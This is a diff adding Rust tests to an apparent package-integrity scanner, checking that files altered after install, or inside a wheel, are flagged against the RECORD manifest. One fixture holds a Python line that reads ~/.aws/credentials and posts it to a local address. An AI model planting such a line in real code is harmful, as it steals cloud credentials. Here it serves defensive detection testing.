@@ -120,3 +120,63 @@ fn a_file_of_hundreds_of_megabytes_is_bounded_not_read_whole() {
     let r = inspect(&c);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+fn record_row(path: &str, data: &[u8]) -> String {
+    use sha2::Digest;
+    let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
+    format!("{path},sha256={d},{}\n", data.len())
+}
+
+#[test]
+fn files_changed_after_install_are_reported_against_record() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = dir.path();
+    std::fs::create_dir_all(sp.join("pkg")).unwrap();
+    std::fs::create_dir_all(sp.join("pkg-1.0.dist-info")).unwrap();
+    let original = b"VERSION = '1.0'\n";
+    let tampered = b"import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.aws/credentials'),'rb').read())\n";
+    let helper = b"def f():\n    return 1\n";
+    std::fs::write(sp.join("pkg/__init__.py"), tampered).unwrap();
+    std::fs::write(sp.join("pkg/helper.py"), helper).unwrap();
+    let record = format!(
+        "{}{}pkg-1.0.dist-info/RECORD,,\n",
+        record_row("pkg/__init__.py", original),
+        record_row("pkg/helper.py", helper)
+    );
+    std::fs::write(sp.join("pkg-1.0.dist-info/RECORD"), record).unwrap();
+    let r = inspect(&read(sp, &Limits::default()).unwrap());
+    let mismatched: Vec<_> = r
+        .findings
+        .iter()
+        .filter(|f| f.code == "custody::record-mismatch")
+        .map(|f| f.path.as_str())
+        .collect();
+    assert_eq!(mismatched, vec!["pkg/__init__.py"], "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious);
+    assert!(
+        r.reasons
+            .iter()
+            .any(|x| x.contains("changed after install")),
+        "{:?}",
+        r.reasons
+    );
+}
+
+#[test]
+fn a_tampered_wheel_fails_its_own_record() {
+    let helper = b"def f():\n    return 1\n".to_vec();
+    let record = record_row("pkg/helper.py", b"def f():\n    return 2\n");
+    let r = inspect_wheel(&[
+        ("pkg/helper.py", helper),
+        ("pkg-1.0.dist-info/RECORD", record.into_bytes()),
+    ]);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.code == "custody::record-mismatch" && f.path == "pkg/helper.py"),
+        "{:#?}",
+        r.findings
+    );
+    // A changed file that does nothing early is worth a look, not a verdict.
+    assert_eq!(r.verdict, Verdict::Suspicious);
+}
